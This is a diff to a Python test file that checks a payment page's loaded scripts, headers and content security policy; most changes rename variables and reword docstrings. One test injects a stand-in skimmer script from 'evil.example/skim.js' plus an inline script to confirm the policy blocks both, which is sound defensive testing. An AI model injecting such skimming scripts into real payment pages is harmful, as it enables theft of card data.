@@ -1,4 +1,4 @@
-"""Whom a browser talks to, and what the page where cards are typed is made of."""
+"""Which origins pages request, and what the pay page loads."""
 
 import json
 import re
@@ -41,7 +41,7 @@ STAFF_PAGES = {
 
 @pytest.fixture
 def paying(windows, practice):
-    """Avery at the card fields, and what the pay page answered with."""
+    """Open the card fields as Avery; return the page and the pay page's answer."""
     invoice = practice.sent(description="Session")
     page = windows.open(practice, AVERY, "/client")
     answer = page.goto(f"/pay/stripe?invoice={invoice}")
@@ -93,17 +93,17 @@ def test_cards_are_typed_only_into_the_processors_own_frame(paying, windows, clo
 def test_the_pay_page_loads_what_the_inventory_lists_and_nothing_else(paying, windows, cloud):
     """S48: a new script or a changed header fails here until a reason is given."""
     page, answer = paying
-    known = json.loads(INVENTORY.read_text(encoding="utf-8"))
-    assert [_named(script, windows, cloud) for script in _scripts(page)] == [
-        each["script"] for each in known["scripts"]
+    inventory = json.loads(INVENTORY.read_text(encoding="utf-8"))
+    assert [_normalized(script, windows, cloud) for script in _scripts(page)] == [
+        each["script"] for each in inventory["scripts"]
     ]
-    assert all(each["reason"] for each in known["scripts"])
+    assert all(each["reason"] for each in inventory["scripts"])
     headers = {
-        name: _named(value, windows, cloud)
+        name: _normalized(value, windows, cloud)
         for name, value in answer.headers.items()
         if name not in VARYING
     }
-    assert headers == known["headers"]
+    assert headers == inventory["headers"]
     assert not re.search(r"unsafe-|\*|http:|blob:", headers["content-security-policy"])
 
 
@@ -116,7 +116,7 @@ def test_the_pay_page_talks_to_us_and_the_processor_alone(paying, windows, cloud
 
 
 def test_the_pay_pages_policy_stops_a_foreign_script_and_an_inline_one(paying, windows):
-    """S48, S49: what is injected does not run."""
+    """S48, S49: injected scripts do not run."""
     page, _ = paying
     page.evaluate("""() => {
         const source = {src: 'https://evil.example/skim.js'};
@@ -125,19 +125,19 @@ def test_the_pay_pages_policy_stops_a_foreign_script_and_an_inline_one(paying, w
             document.head.append(Object.assign(document.createElement('script'), change));
     }""")
     assert page.evaluate("window.skimmed") is None
-    refused = [text for text in windows.console.messages if "Content Security Policy" in text]
-    assert len(refused) == 2
+    violations = [text for text in windows.console.messages if "Content Security Policy" in text]
+    assert len(violations) == 2
     windows.console.messages.clear()
 
 
 def _scripts(page):
-    """Addresses of every script element, and what stands inline, in their order."""
+    """Return the URL or inline text of every script element, in order."""
     return page.evaluate(
         "[...document.scripts].map((script) => script.src || `inline: ${script.textContent}`)"
     )
 
 
-def _named(text, windows, cloud):
-    """Without what differs from build to build and from run to run."""
-    named = text.replace(cloud.stripe_url, "PROCESSOR").replace(windows.url, "OURS")
-    return re.sub(r"-[\w-]{8}\.js", "-HASH.js", named)
+def _normalized(text, windows, cloud):
+    """Replace what differs between builds and runs."""
+    normalized = text.replace(cloud.stripe_url, "PROCESSOR").replace(windows.url, "OURS")
+    return re.sub(r"-[\w-]{8}\.js", "-HASH.js", normalized)
